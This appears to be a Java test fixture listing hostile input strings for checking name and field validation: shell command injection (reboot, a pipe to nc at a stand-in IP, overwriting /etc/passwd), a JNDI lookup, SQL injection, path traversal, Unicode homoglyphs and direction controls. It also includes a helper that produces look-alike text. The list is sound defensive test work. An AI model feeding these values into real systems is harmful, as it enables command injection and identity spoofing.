package io.millrace.testing.hostile;

import java.util.List;

/** What somebody writes into a name to have it run, expanded, matched or shown as something else. */
public final class HostileWords {
    /** Each alone, or beside a name that is sound. */
    public static final List<String> ALL = List.of(
            "",
            " ",
            "; reboot",
            ";reboot",
            "$(reboot)",
            "`reboot`",
            "| nc 203.0.113.1 80",
            "&& true",
            "> /etc/passwd",
            "{{ssm:secret}}",
            "{{ global:ACCOUNT_ID }}",
            "${IFS}",
            "${jndi:ldap://example.invalid/a}",
            "<event.account>",
            "%s%n",
            "\n",
            "\n*",
            "\r\nInstanceId: *",
            "\t",
            "\u0000",
            "\u001b[2J",
            "*",
            "?",
            "'\"\\",
            "'; drop table commands; --",
            "../../etc/passwd",
            ",i-0dd44ee55ff660011",
            "%00",
            "<!channel> <@U1>",
            "[x](https://example.invalid)",
            "{\"InstanceId\": [\"*\"]}",
            "- a\n- b: {c: *}",
            // shown from right to left, or not at all
            "\u202e",
            "\u2066",
            "\u200b",
            "\ufeff",
            "\u00ad",
            // look like others
            "\u0456-0c2f5e7a91d34b680",
            "\u0430\u0435\u043e",
            "\uff0f",
            "\u2044",
            "\uff11\uff12",
            "\u212a",
            "e\u0301",
            // half a character
            "\ud800",
            "\udc00",
            "\ud83d\ude00",
            "arn:aws:ec2:eu-west-1:444455556666:instance/i-0c2f5e7a91d34b680",
            "arn:aws:ec2:us-east-1:111122223333:instance/i-0c2f5e7a91d34b680",
            "arn:aws:iam::444455556666:user/alice",
            "arn:aws:ec2:*:*:instance/*",
            "arn:aws:s3:::*",
            "x".repeat(10_240),
            "\u0436".repeat(10_240));

    private HostileWords() {}

    /** The text as somebody writes it who wants it taken for the same: letters of other alphabets, full-width digits. */
    public static String lookingLike(String text) {
        var other = new StringBuilder();
        text.chars().forEach(c -> other.append(lookingLike((char) c)));
        return other.toString();
    }

    private static char lookingLike(char c) {
        return switch (c) {
            case 'a' -> '\u0430';
            case 'e' -> '\u0435';
            case 'o' -> '\u043e';
            case 'i' -> '\u0131';
            case 'k', 'K' -> '\u212a';
            case 's' -> '\u017f';
            case 'A' -> '\u0410';
            case '/' -> '\u2215';
            case ':' -> '\ua789';
            case '-' -> '\u2010';
            default -> c >= '0' && c <= '9' ? (char) ('\uff10' + c - '0') : c;
        };
    }
}
